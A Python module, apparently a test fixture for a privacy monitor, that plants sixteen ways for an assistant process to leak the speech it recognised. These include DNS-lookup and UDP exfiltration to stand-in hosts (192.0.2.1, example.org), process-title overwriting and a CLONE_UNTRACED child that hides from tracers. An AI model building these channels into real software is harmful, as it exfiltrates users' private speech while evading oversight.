"""Planted leaks of a running assistant: each gets the words that were recognised and lets them out in its own way."""

from __future__ import annotations

import contextlib
import ctypes
import logging
import mmap
import os
import signal
import socket
import subprocess
import threading
import time
import zlib
from collections.abc import Callable
from pathlib import Path

Leak = Callable[[str], None]
KEPT: list[object] = []
"""What stays in memory."""

_libc = ctypes.CDLL(None, use_errno=True)


def _file(words: str) -> None:
    Path("/var/tmp/privacy-leak.txt").write_text(words)


def _renamed(words: str) -> None:
    path = Path("/var/tmp/privacy-leak-renamed")
    path.touch()
    path.rename(path.with_name(f"privacy-leak {words[:40]}"))
    path.with_name(f"privacy-leak {words[:40]}").unlink()


def _unlinked(words: str) -> None:
    path = Path("/var/tmp/privacy-leak-unlinked")
    file = path.open("w")
    path.unlink()
    file.write(words)
    file.flush()
    KEPT.append(file)


def _shm(words: str) -> None:
    Path("/dev/shm/privacy-leak").write_bytes(words.encode())


def _segment(words: str) -> None:
    """System V shared memory; it is marked for removal, and so goes with the process."""
    _libc.shmat.restype = ctypes.c_void_p
    area = _libc.shmget(0, 4096, 0o1600)
    at = _libc.shmat(area, None, 0)
    ctypes.memmove(at, words.encode(), len(words))
    _libc.shmctl(area, 0, None)


def _mapped(words: str) -> None:
    path = Path("/var/tmp/privacy-leak-mapped")
    path.write_bytes(bytes(4096))
    with path.open("r+b") as file, mmap.mmap(file.fileno(), 4096) as area:
        area[: len(words)] = words.encode()


def _memfd(words: str) -> None:
    fd = os.memfd_create("leak")
    os.write(fd, words.encode())


def _sent(words: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(words.encode(), ("192.0.2.1", 9))


def _looked_up(words: str) -> None:
    """Beside, because an answer may take long."""

    def ask() -> None:
        with contextlib.suppress(OSError):
            socket.getaddrinfo(f"{words.split()[0]}.example.org", 80)

    threading.Thread(target=ask, daemon=True).start()


def _connected(words: str) -> None:
    with socket.socket() as out:
        out.setblocking(False)
        out.connect_ex(("192.0.2.1", 443))


def _started(words: str) -> None:
    subprocess.run(["/bin/true", words], check=False)


def _logged(words: str) -> None:
    logging.getLogger("assistant.stt").debug("heard %s", words)


def _letters(words: str) -> None:
    for letter in words:
        os.write(2, letter.encode())


def _titled(words: str) -> None:
    """Over the program's own arguments, which `ps` shows to everybody."""
    fields = Path("/proc/self/stat").read_text().rpartition(")")[2].split()
    begin, end = int(fields[45]), int(fields[46])  # arg_start and arg_end, see proc(5)
    title = words.encode()[: end - begin - 1]
    ctypes.memmove(begin, title + bytes(end - begin - len(title)), end - begin)


HIDDEN_TRIES, HIDDEN_SECONDS = 5, 3.0


def _hidden(words: str) -> None:
    """A child that no tracer follows writes them, compressed."""
    untraced = 0x00800000  # CLONE_UNTRACED of linux/sched.h
    clone = 56 if os.uname().machine == "x86_64" else 220
    packed = zlib.compress(words.encode())
    for _ in range(HIDDEN_TRIES):
        child = _libc.syscall(clone, untraced | signal.SIGCHLD, 0, 0, 0, 0)
        if child == 0:
            fd = os.open("/var/tmp/privacy-leak.z", os.O_WRONLY | os.O_CREAT, 0o600)
            os.write(fd, packed)
            os.close(fd)
            os._exit(0)
        # A lock that another thread held just then is held in the child for ever.
        end = time.monotonic() + HIDDEN_SECONDS
        while time.monotonic() < end:
            if os.waitpid(child, os.WNOHANG)[0]:
                return
            time.sleep(0.01)
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


def _kept(words: str) -> None:
    KEPT.append(words.encode())


LEAKS: dict[str, Leak] = {
    "writes the words to a file": _file,
    "writes them to a file it has unlinked": _unlinked,
    "names a file after them": _renamed,
    "puts them into shared memory": _shm,
    "puts them into a shared segment": _segment,
    "writes them through a mapping": _mapped,
    "keeps them in a memory file": _memfd,
    "sends them in a datagram": _sent,
    "looks them up as a name": _looked_up,
    "opens a connection": _connected,
    "hands them to another program": _started,
    "shows them in the list of processes": _titled,
    "spells them into the log, letter by letter": _letters,
    "lets a child that hides from tracers write them": _hidden,
    "logs them": _logged,
    "keeps the words in memory": _kept,
}
SILENT = tuple(LEAKS)[:14]
"""Those that leave the process."""
